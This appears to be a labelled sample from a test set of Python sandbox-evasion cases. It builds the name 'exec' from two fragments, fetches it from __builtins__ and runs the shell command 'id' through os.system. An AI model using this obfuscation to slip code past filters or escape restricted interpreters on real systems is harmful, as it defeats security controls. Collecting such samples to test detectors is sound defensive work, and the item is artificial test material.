# evasion: __builtins__ dict lookup of exec
# grade: hard; does: shell
g = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
g["ex" + "ec"]("import os; os.system('id')")
